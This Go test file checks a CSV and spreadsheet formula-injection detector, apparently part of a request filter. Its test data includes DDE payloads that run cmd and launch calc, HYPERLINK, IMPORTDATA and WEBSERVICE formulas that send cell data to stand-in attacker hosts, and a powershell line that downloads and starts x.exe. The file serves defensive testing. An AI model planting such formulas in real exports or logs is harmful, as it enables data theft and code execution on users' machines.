package filter

import "testing"

func TestFormulaInjection(t *testing.T) {
	for _, c := range []struct {
		v    string
		want bool
	}{
		{"=cmd|' /C calc'!A0", true},
		{"@SUM(1+1)*cmd|' /C calc'!A0", true},
		{"+-cmd|' /C calc'!A0", true},
		{`=HYPERLINK("http://evil.example/?leak="&A1&B1,"View invoice")`, true},
		{`=IMPORTDATA("http://attacker.example/c?"&A1:C10)`, true},
		{`=DDE("cmd";"/C calc";"!A0")`, true},
		{"\t=webservice(\"http://evil.example/\"&A2)", true},
		// Benign twins.
		{"=SUM(A1:A3)", false},
		{"+1 (555) 010-0199", false},
		{"-5", false},
		{"@alice can you check (today)?", false},
		{"- Choose A | B's option!", false},
		{"Tom & Jerry | Best of (2019)", false},
		{"=)", false},
	} {
		if got := formulaInjection(c.v); got != c.want {
			t.Errorf("%q: %v, want %v", c.v, got, c.want)
		}
	}
	csv := "sku,name,price\r\nSF-1,\"=HYPERLINK(\"\"http://evil.example/\"\"&A2,\"\"open\"\")\",1.00\r\n"
	if !csvFormulaFile("products.csv", "text/csv", csv) {
		t.Error("CSV file with a HYPERLINK cell passed")
	}
	dde := "sku,name,description,price\r\nSF-1002,\"=cmd|'/C powershell -c \"\"iwr http://attacker.example/x.exe; start x.exe\"\"'!A0\",Hoodie,49.00\r\n"
	if !csvFormulaFile("inventory.csv", "text/csv", dde) {
		t.Error("CSV file with a DDE cell holding the separator of another dialect passed")
	}
	if !csvFormulaFile("p.csv", "text/csv", "sku;name;price\r\nSF-4001;=cmd|'/C calc'!'A0';5\r\n") {
		t.Error("semicolon CSV file with a DDE cell passed")
	}
	if csvFormulaFile("products.csv", "text/csv", "sku,name,price\r\nSF-1,Mug,-1.00\r\nSF-2,+Plus size,=5\r\n") {
		t.Error("CSV file with signs and a number blocked")
	}
	// The User-Agent lands in exported audit logs.
	eng := mustEngine(t, Config{})
	for ua, want := range map[string]bool{
		`=HYPERLINK("http://evil.example","ua")`:                               true,
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML)": false,
	} {
		r := newReq("GET", "http://app.example.com/api/v3/audit/export", "", "")
		r.Header.Set("User-Agent", ua)
		expectRule(t, eng, r, "csv-formula-injection", want, ua)
	}
}

func FuzzCSVFormulaFile(f *testing.F) {
	for _, s := range []string{"a,b\r\n\"=cmd|' /C calc'!A0\",1\r\n", "a;b\n\"x\"\"y\";=HYPERLINK(\"h\")", "\"", "a\tb\n=webservice(\"x\")\t1", "\"unterminated,x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		csvFormulaFile("f.csv", "text/csv", s)
		formulaInjection(s)
	})
}
